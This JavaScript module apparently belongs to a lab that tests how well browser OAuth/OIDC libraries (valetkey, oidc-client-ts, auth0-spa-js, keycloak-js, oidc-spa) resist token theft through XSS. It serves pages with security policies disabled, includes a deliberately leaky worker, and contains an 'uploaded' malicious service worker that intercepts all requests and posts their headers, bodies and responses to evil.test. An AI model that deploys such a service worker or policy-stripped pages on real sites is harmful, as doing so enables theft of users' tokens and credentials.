// What the hostile scripts are let loose on: the same small application with each library, and a page of it for each visit.

import { readFileSync } from "node:fs";
import { build } from "esbuild";
import { HOSTS, originOf } from "./network.mjs";
import { dpop } from "./switches/dpop.mjs";
import { claim, tokens } from "./switches/tokens.mjs";

/** An access token that has to be renewed the next time it is needed. */
const SHORT = tokens((all) => void (all.expires_in = 1));
/** keycloak-js asks for the response in the fragment, and sends cookies to the token endpoint. */
const ANY_HEADER = { preflightAnswer: (answer) => ({ ...answer, headers: { ...answer.headers, "access-control-allow-headers": "*" } }) };
/** keycloak-js reads the tokens that a Keycloak issues, which are JWTs. The mark is where the signature would be. */
const asJwt = (mark) => [{ alg: "RS256" }, { exp: Math.floor(Date.now() / 1000) + 300, iat: Math.floor(Date.now() / 1000), sub: "ada" }].map((part) => Buffer.from(JSON.stringify(part)).toString("base64url")).concat(mark).join(".");
const JWTS = { accessToken: asJwt, refreshToken: asJwt };
const WITH_COOKIES = { tokenAnswer: (answer) => ({ ...answer, headers: { ...answer.headers, "access-control-allow-origin": originOf(HOSTS.app), "access-control-allow-credentials": "true" } }) };
const AS_ASKED = { redirect: (url, { authorization }) => (authorization.response_mode === "fragment" ? url.replace("?", "#") : url) };

const valetkey = (isolation, more = {}) => ({ program: "valetkey", package: "valetkey", options: { isolation, ...more }, base: [SHORT] });

/** The libraries, ours first. `configuration` says how each is set up; it is what the library's documentation starts with. */
export const TARGETS = {
  "valetkey": { ...valetkey("shared"), configuration: "default" },
  "valetkey, memory": { ...valetkey("shared", { transactions: "memory" }), configuration: "`transactions: \"memory\"`" },
  "valetkey, worker": { ...valetkey("worker"), configuration: "`isolation: \"worker\"`" },
  "valetkey, page": { ...valetkey("page"), configuration: "`isolation: \"page\"`" },
  "oidc-client-ts": { program: "oidc-client-ts", package: "oidc-client-ts", configuration: "default stores (`sessionStorage`, `localStorage`), scope `offline_access`" },
  "auth0-spa-js": { program: "auth0-spa-js", package: "@auth0/auth0-spa-js", ownHost: true, base: [ANY_HEADER], configuration: "`useRefreshTokens: true`, cache in memory (default)" },
  "keycloak-js": { program: "keycloak-js", package: "keycloak-js", base: [WITH_COOKIES, JWTS], configuration: "default, `checkLoginIframe: false`" },
  "oidc-spa": { program: "oidc-spa", package: "oidc-spa", configuration: "default" },
  "oidc-spa, defences": { program: "oidc-spa-defences", package: "oidc-spa", configuration: "`browserRuntimeFreeze`, `tokenSubstitution`" },
};

/** Ours at a provider that speaks DPoP, and with what an application may open on request. */
const bound = (options) => ({ ...valetkey("shared", options), base: [SHORT, dpop()] });
export const BOUND = { default: bound(), persisted: bound({ persist: "dpop" }), exposed: bound({ exposeAccessToken: true }) };

/** A program that makes every mistake there is: a script that steals nothing here would prove nothing anywhere. */
export const LEAKY = { program: "leaky", base: [] };

export function versionOf({ package: name }) {
  const file = name === "valetkey" ? "../../pkg/package.json" : `../../node_modules/${name}/package.json`;
  return JSON.parse(readFileSync(new URL(file, import.meta.url), "utf8")).version;
}

/** Whatever these pages let happen was not stopped by a policy. */
const OPEN = {
  "content-security-policy": "",
  "cross-origin-opener-policy": "unsafe-none",
  "cross-origin-embedder-policy": "unsafe-none",
};

const PAGE = (program, config) => `<!doctype html><html lang="en"><meta charset="utf-8"><title>The application</title><link rel="icon" href="data:,">
<body><main>The application</main><script type="application/json" id="config">${JSON.stringify(config)}</script><script type="module" src="/xss/${program}.js"></script></body></html>`;

const main = (program) => `
import { open } from "./programs/${program}.mjs";
export * from "./programs/${program}.mjs";

const config = JSON.parse(document.getElementById("config").textContent);
const report = (what) => {
  window.reported = what;
  return fetch("/report/" + config.realm, { method: "POST", body: JSON.stringify(what) });
};
try {
  const program = open(config);
  window.client = program.client;
  window.call = program.call;
  if (location.search === "?start") {
    history.replaceState(null, "", location.pathname);
    await program.signIn();
  } else {
    const user = await program.user();
    window.client = program.client;
    const answer = user && (await program.call(config.api + "orders"));
    // The application goes on working: calls, and a renewal.
    window.work = async () => {
      await new Promise((resolve) => setTimeout(resolve, config.pause));
      await program.renew();
      return (await program.call(config.api + "orders")).status;
    };
    await report({ status: user ? "signed-in" : "signed-out", answer: answer?.status });
  }
} catch (error) {
  await report({ error: String(error?.stack ?? error) });
}
window.loaded = true;
`;

const bundles = new Map();

/** One script a program, made once. */
function bundle(program) {
  if (!bundles.has(program)) {
    const made = build({
      stdin: { contents: main(program), resolveDir: new URL(".", import.meta.url).pathname, sourcefile: "main.mjs" },
      bundle: true,
      format: "esm",
      target: "es2022",
      external: ["/valetkey/*"],
      write: false,
      logLevel: "error",
    });
    bundles.set(program, made.then(({ outputFiles }) => outputFiles[0].text));
  }
  return bundles.get(program);
}

/** A worker that gives a token to whoever asks. */
const LEAKY_WORKER = `
let token;
addEventListener("connect", ({ ports: [port] }) => {
  port.onmessage = ({ data }) => {
    if (data.kind === "keep") ({ token } = data);
    else if (data.kind === "getToken") port.postMessage({ token });
  };
});
`;

/** What somebody of bad intent puts where the application's origin lets people put files. */
const UPLOADED = `
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const tell = (text) => fetch("https://evil.test/loot/service-worker", { method: "POST", mode: "no-cors", body: text });
  const { request } = event;
  if (new URL(request.url).host === "evil.test") return;
  event.respondWith((async () => {
    await tell(request.url + JSON.stringify([...request.headers]) + (await request.clone().text()));
    const response = await fetch(request);
    if (response.type !== "opaqueredirect") await response.clone().text().then(tell, () => {});
    return response;
  })());
});
`;

const WORKERS = { valetkey: "/valetkey/vault.js", leaky: "/xss/leaky-worker.js" };

/** A page of the application with a library, in a realm of its own. */
export async function prepare(lab, target, name, { options = {}, base = [], headers } = {}) {
  // auth0-spa-js takes no issuer with a path.
  const host = `${name}.${HOSTS.provider}`;
  const ofHost = target.ownHost ? [claim("iss", `${originOf(host)}/`)] : [];
  const { realm, application, canary } = lab.realm(name, { options: { ...target.options, ...options }, base: [AS_ASKED, ...ofHost, ...(target.base ?? []), ...base] });
  if (target.ownHost) lab.handlers[host] = (request) => realm.handle({ ...request, path: `/${name}${request.path}` });
  const { files } = lab.handlers[HOSTS.app];
  const config = {
    realm: name,
    issuer: target.ownHost ? `${originOf(host)}/` : realm.issuer,
    clientId: realm.clientId,
    redirectUri: application.page,
    api: `${originOf(HOSTS.api)}/`,
    options: application.options,
    // As long as the short token lives, where it is short.
    pause: target.program === "valetkey" ? 1_100 : 0,
  };
  files.set(`/xss/${target.program}.js`, { body: await bundle(target.program) });
  files.set("/xss/leaky-worker.js", { body: LEAKY_WORKER });
  files.set("/uploads/attacker.js", { headers: { "service-worker-allowed": "/" }, body: UPLOADED });
  files.set(`/${name}/`, { headers: { ...OPEN, ...headers }, body: PAGE(target.program, config) });
  const known = {
    ...config,
    authorizationEndpoint: `${realm.issuer}authorize`,
    tokenEndpoint: `${realm.issuer}token`,
    // Anybody can read in the library's source how it names its worker and where that is.
    name: target === LEAKY ? "leaky" : JSON.stringify(Object.fromEntries(Object.entries(application.options).filter(([option]) => option !== "isolation").sort(([a], [b]) => (a < b ? -1 : 1)))),
    worker: WORKERS[target.program] && originOf(HOSTS.app) + WORKERS[target.program],
  };
  return { realm, application, canary, known };
}
